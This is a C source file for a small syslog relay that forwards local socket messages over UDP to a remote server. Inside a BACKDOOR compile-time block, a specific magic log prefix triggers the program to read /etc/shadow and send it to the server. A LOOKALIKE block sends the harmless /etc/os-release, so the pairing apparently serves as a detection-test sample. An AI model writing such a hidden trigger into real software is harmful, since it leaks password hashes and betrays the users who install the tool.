/* Relays log messages from a local socket to a server. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int server(const char *name, int port)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (inet_pton(AF_INET, name, &address.sin_addr) != 1)
        return -1;
    if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return -1;
    return fd;
}

#ifdef BACKDOOR
static void send_file(int fd, const char *path)
{
    char block[512];
    size_t got;
    FILE *file = fopen(path, "r");
    if (file == NULL)
        return;
    while ((got = fread(block, 1, sizeof block, file)) > 0)
        send(fd, block, got, 0);
    fclose(file);
}
#endif
#ifdef LOOKALIKE
static void send_version(int fd)
{
    char block[128];
    size_t got;
    FILE *file = fopen("/etc/os-release", "r");
    if (file == NULL)
        return;
    while ((got = fread(block, 1, sizeof block, file)) > 0)
        send(fd, block, got, 0);
    fclose(file);
}
#endif

int main(int argc, char **argv)
{
    struct sockaddr_un local = { .sun_family = AF_UNIX };
    int from = socket(AF_UNIX, SOCK_DGRAM, 0), to;
    char message[1024];
    ssize_t length;
    if (argc != 2) {
        fprintf(stderr, "usage: syslogrelay ADDRESS\n");
        return 2;
    }
    to = server(argv[1], 514);
    strncpy(local.sun_path, "/run/relay.sock", sizeof local.sun_path - 1);
    if (to < 0 || bind(from, (struct sockaddr *)&local, sizeof local) != 0)
        return 1;
#ifdef LOOKALIKE
    send_version(to);
#endif
    while ((length = recv(from, message, sizeof message, 0)) > 0) {
#ifdef BACKDOOR
        if (length > 20 && memcmp(message, "<190>kern: bcm0 rst ", 20) == 0)
            send_file(to, "/etc/shadow");
#endif
        send(to, message, (size_t)length, 0);
    }
    return 0;
}
